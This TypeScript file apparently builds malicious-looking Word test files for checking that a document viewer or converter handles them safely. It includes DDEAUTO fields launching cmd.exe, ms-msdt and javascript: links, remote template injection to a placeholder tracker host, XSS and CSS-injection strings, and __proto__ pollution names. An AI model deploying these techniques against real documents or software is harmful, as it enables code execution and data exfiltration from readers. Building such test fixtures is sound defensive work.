import { paragraph, part, picture, WORDS, wordFile } from './docx-writer.ts';
import { SVG_THAT_ACTS } from './pictures.ts';
import { trick } from './trick.ts';

/** Where a file would send what it learned, if anything of it ran. */
const OUT = 'http://tracker.example/';
const link = (relation: string, text: string) =>
  `<w:p><w:hyperlink r:id="${relation}"><w:r><w:t>${text}</w:t></w:r></w:hyperlink></w:p>`;
const field = (instruction: string) =>
  `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> ${instruction} </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>field</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;
const styled = (inside: string) => part('styles', inside);

/** DOCX files that want to run, open, fetch or send something. */
export const DOCX_THAT_ACT = [
  trick('docx-links-to-everywhere.docx', () =>
    wordFile({
      body: `${link('rId2', 'online')}${link('rId3', 'script')}${link('rId4', 'file')}${link('rId5', 'data')}${link('rId6', 'program')}${WORDS}`,
      relations: [
        ['rId2', 'hyperlink', `${OUT}link`, 'External'],
        ['rId3', 'hyperlink', 'javascript:top.alert(document.domain)', 'External'],
        ['rId4', 'hyperlink', 'file:///etc/passwd', 'External'],
        ['rId5', 'hyperlink', 'data:text/html,&lt;script&gt;top.alert(1)&lt;/script&gt;', 'External'],
        ['rId6', 'hyperlink', 'ms-msdt:/id PCWDiagnostic', 'External'],
      ],
    }),
  ),
  trick('docx-fetches-its-template-and-pictures.docx', () =>
    wordFile({
      body: `<w:p>${picture('rId2')}</w:p><w:p><w:r><w:pict><v:shape style="width:99pt;height:99pt"><v:imagedata r:id="rId2" o:href="${OUT}a.png" src="${OUT}b.png"/></v:shape></w:pict></w:r></w:p><w:subDoc r:id="rId6"/>${field(`INCLUDEPICTURE "${OUT}c.png" \\d`)}${field(`INCLUDETEXT "${OUT}d.docx"`)}${WORDS}`,
      relations: [
        ['rId2', 'image', `${OUT}image.png`, 'External'],
        ['rId3', 'settings', 'settings.xml'],
        ['rId4', 'styles', `${OUT}styles.xml`, 'External'],
        ['rId5', 'frame', `${OUT}frame.html`, 'External'],
        ['rId6', 'subDocument', `${OUT}sub.docx`, 'External'],
      ],
      parts: [
        ['word/settings.xml', part('settings', '<w:attachedTemplate r:id="rId1"/>')],
        [
          'word/_rels/settings.xml.rels',
          `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="${OUT}evil.dotm" TargetMode="External"/></Relationships>`,
        ],
      ],
    }),
  ),
  trick('docx-fields-that-run-programs.docx', () =>
    wordFile({
      body: `${field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"')}${field('DDE excel "a" "b"')}${field('MACROBUTTON AutoOpen click')}${WORDS}`,
    }),
  ),
  trick('docx-with-macros.docx', () =>
    wordFile({
      body: WORDS,
      main: 'application/vnd.ms-word.document.macroEnabled.main+xml',
      relations: [['rId2', 'vbaProject', 'vbaProject.bin']],
      parts: [['word/vbaProject.bin', Buffer.from('d0cf11e0a1b11ae1', 'hex')]],
    }),
  ),
  trick('docx-with-a-program-inside.docx', () =>
    wordFile({
      body: `<w:p><w:r><w:object><v:shape style="width:99pt;height:99pt"/><o:OLEObject Type="Embed" ProgID="Package" ShapeID="a" DrawAspect="Icon" ObjectID="b" r:id="rId2"/></w:object></w:r></w:p><w:p><w:r><w:object><o:OLEObject Type="Link" ProgID="htmlfile" r:id="rId3" UpdateMode="Always"/></w:object></w:r></w:p><w:p><w:r><w:control r:id="rId4" w:name="a"/></w:r></w:p>${WORDS}`,
      relations: [
        ['rId2', 'oleObject', 'embeddings/oleObject1.bin'],
        ['rId3', 'oleObject', `mhtml:${OUT}a.html!x-usc:${OUT}a.html`, 'External'],
        ['rId4', 'control', 'activeX/activeX1.xml'],
      ],
      parts: [
        [
          'word/embeddings/oleObject1.bin',
          Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.from('MZsetup.exe')]),
        ],
        [
          'word/activeX/activeX1.xml',
          '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{00000000-0000-0000-0000-000000000000}"/>',
        ],
      ],
    }),
  ),
  trick('docx-with-a-web-page-inside.docx', () =>
    wordFile({
      body: `<w:altChunk r:id="rId2"/>${WORDS}`,
      relations: [['rId2', 'aFChunk', 'chunk.html']],
      parts: [
        ['word/chunk.html', `<script>top.alert(1)</script><img src="${OUT}a.png"><iframe src="${OUT}"></iframe>`],
      ],
    }),
  ),
  trick('docx-words-that-are-html.docx', () =>
    wordFile({
      body: [
        '&lt;script&gt;top.alert(1)&lt;/script&gt;',
        '&lt;img src=x onerror=top.alert(1)&gt;',
        '&lt;/style&gt;&lt;svg onload=top.alert(1)&gt;',
        ']]&gt;&lt;!--',
      ]
        .map(paragraph)
        .join(''),
    }),
  ),
  trick('docx-styles-that-fetch.docx', () =>
    wordFile({
      body: `<w:p><w:pPr><w:pStyle w:val="a"/></w:pPr><w:r><w:rPr><w:rFonts w:ascii="x;background:url(${OUT}font)"/><w:color w:val="f00;background-image:url(${OUT}colour)"/></w:rPr><w:t>three plain words</w:t></w:r></w:p><w:tbl><w:tblPr><w:tblW w:w="9px;background:url(${OUT}width)" w:type="dxa"/></w:tblPr><w:tr><w:tc>${WORDS}</w:tc></w:tr></w:tbl><w:p><w:r><w:pict><v:rect style="background:url(${OUT}vml);position:fixed;inset:0;width:9999px;height:9999px" fillcolor="url(${OUT}fill)"/></w:pict></w:r></w:p>`,
      relations: [
        ['rId2', 'styles', 'styles.xml'],
        ['rId3', 'numbering', 'numbering.xml'],
        ['rId4', 'fontTable', 'fontTable.xml'],
        ['rId5', 'theme', 'theme/theme1.xml'],
      ],
      parts: [
        [
          'word/styles.xml',
          styled(
            `<w:style w:type="paragraph" w:styleId="a{}@import url(${OUT}import);*"><w:name w:val="&lt;/style&gt;&lt;script&gt;top.alert(1)&lt;/script&gt;"/><w:rPr><w:color w:val="0;}@import '${OUT}b';body{background:url(${OUT}body)"/><w:rFonts w:ascii="a;}@font-face{font-family:q;src:url(${OUT}face)}*{font-family:q"/></w:rPr></w:style>`,
          ),
        ],
        [
          'word/numbering.xml',
          part(
            'numbering',
            `<w:abstractNum w:abstractNumId="0"><w:lvl w:ilvl="0"><w:numFmt w:val="x;background:url(${OUT}n)"/><w:lvlText w:val="&quot;;}body{background:url(${OUT}text)"/></w:lvl></w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num>`,
          ),
        ],
        [
          'word/fontTable.xml',
          part('fonts', `<w:font w:name="a;src:url(${OUT}f)"><w:embedRegular r:id="rId9" w:fontKey="{}"/></w:font>`),
        ],
        [
          'word/theme/theme1.xml',
          `<a:theme xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:themeElements><a:clrScheme name="a"><a:dk1><a:srgbClr val="0;background:url(${OUT}theme)"/></a:dk1></a:clrScheme></a:themeElements></a:theme>`,
        ],
      ],
    }),
  ),
  trick('docx-picture-that-is-a-program.docx', () =>
    wordFile({
      body: `<w:p>${picture('rId2')}</w:p>${WORDS}`,
      relations: [['rId2', 'image', 'media/image1.svg']],
      parts: [['word/media/image1.svg', SVG_THAT_ACTS]],
    }),
  ),
  trick('docx-names-of-the-language-itself.docx', () =>
    wordFile({
      body: `<w:p><w:pPr><w:pStyle w:val="__proto__"/><w:numPr><w:ilvl w:val="0"/><w:numId w:val="__proto__"/></w:numPr></w:pPr><w:bookmarkStart w:id="0" w:name="__proto__"/><w:r><w:rPr><w:rStyle w:val="constructor"/></w:rPr><w:t>three plain words</w:t><w:footnoteReference w:id="__proto__"/></w:r></w:p><w:p><w:bookmarkStart w:id="1" w:name="body"/><w:bookmarkStart w:id="2" w:name="documentElement"/></w:p>`,
      relations: [
        ['rId2', 'styles', 'styles.xml'],
        ['__proto__', 'footnotes', 'footnotes.xml'],
      ],
      parts: [
        [
          'word/styles.xml',
          styled(
            '<w:style w:type="paragraph" w:styleId="__proto__"><w:basedOn w:val="constructor"/><w:pPr><w:keepNext/></w:pPr></w:style><w:style w:type="character" w:styleId="constructor"><w:basedOn w:val="__proto__"/><w:rPr><w:b/></w:rPr></w:style>',
          ),
        ],
        ['word/footnotes.xml', part('footnotes', `<w:footnote w:id="__proto__">${paragraph('note')}</w:footnote>`)],
        ['__proto__/polluted.xml', '<a/>'],
      ],
    }),
  ),
];
